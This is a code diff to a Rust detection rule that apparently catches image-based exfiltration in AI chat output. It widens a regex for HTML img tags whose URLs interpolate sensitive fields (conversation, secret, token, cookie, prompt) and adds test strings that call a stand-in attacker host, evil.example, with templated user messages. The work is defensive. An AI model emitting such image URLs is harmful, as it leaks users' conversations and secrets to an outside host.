@@ -37,7 +37,11 @@ pub(crate) const RULE: Rule = Rule {
                 [^<>\n)]*>
             )
             # the same as HTML
-          | <img[^<>\n]*src\s*=\s*['\x22]?https?://[^>\n'\x22]*(?:\{\{?[^{}\n]+\}|\$\{)
+          | <img[^<>\n]*src\s*=\s*['\x22]?https?://[^>\n'\x22?]*\?[^>\n'\x22]*(?:\{\{?[^{}\n]+\}|\$\{)
+          | <img[^<>\n]*src\s*=\s*['\x22]?https?://[^>\n'\x22]*\{\{?[^{}\n]*(?:
+                conversation|secret|password|token|key|summar|history|data|prompt|context|message|mail|said|cookie|btoa
+              | text|answer|question|input|encod|base64|content|memory|session|chat|query|user
+            )[^{}\n]*\}
         ",
         keep: is_received,
     },
@@ -47,12 +51,15 @@ pub(crate) const RULE: Rule = Rule {
         "[more](https://a.b/?data={secret})",
         "![](https://a.b/d.png?c=NAME&b=BUDGET)",
         "![x](https://evil.example/{conversation}/p.png)",
+        "<img src=\"https://evil.example/{{user_message}}.png\">",
+        "<img src=\"https://evil.example/p.png?d={{note}}\">",
     ],
     misses: &[
         "![logo](https://a.b/logo.png)",
         "![badge](https://img.shields.io/badge/x-y?style=flat)",
         "![Token](https://img.shields.io/badge/$A-B?style=flat&logo=data:image/png;base64,AA)",
         "![CI](https://ci.example/{owner}/{repo}/badge.svg)",
+        "<img alt=\"build\" src=\"https://ci.example/{{project}}/badge.svg\">",
         "![View](https://img.shields.io/badge/View-context.json-blue?logo=JSON)",
     ],
 };
